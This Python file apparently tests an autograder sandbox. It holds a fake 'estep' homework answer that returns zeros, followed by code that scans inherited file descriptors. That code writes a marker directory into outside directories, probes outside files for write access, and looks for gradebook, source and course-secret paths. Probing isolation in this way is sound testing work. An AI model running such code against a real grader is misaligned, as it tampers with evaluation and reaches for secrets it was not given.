"""Lists inherited descriptors by fstat and tries each one as a pipe, socket or file of the server or the grader."""

TRACE = "PWNED_descriptor"

CELLS = {
    "estep": r"""
import numpy as np


def estep(X, mixture):
    return np.zeros((len(X), len(mixture.p))), 0.0


import os
import stat

mark = "PWN" + "ED_descriptor"
folder = os.getcwd()
own = {entry.inode() for entry in os.scandir(folder)}
for number in range(256):
    try:
        state = os.fstat(number)
    except OSError:
        continue
    try:
        path = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        path = ""
    if stat.S_ISDIR(state.st_mode) and not path.startswith(folder):
        try:
            print(mark, number, os.listdir(number))
            os.mkdir(mark, dir_fd=number)
        except OSError:
            pass
    elif stat.S_ISREG(state.st_mode) and not path.startswith(folder) and state.st_ino not in own:
        try:
            if os.pwrite(number, b"", 0) == 0 and os.pread(number, 1, 0):
                print(mark, number, path)
        except OSError:
            pass
    if any(word in path for word in ("gradebook", "submitted", "/source", ".course_secret")):
        print(mark, number, path)
""",
}
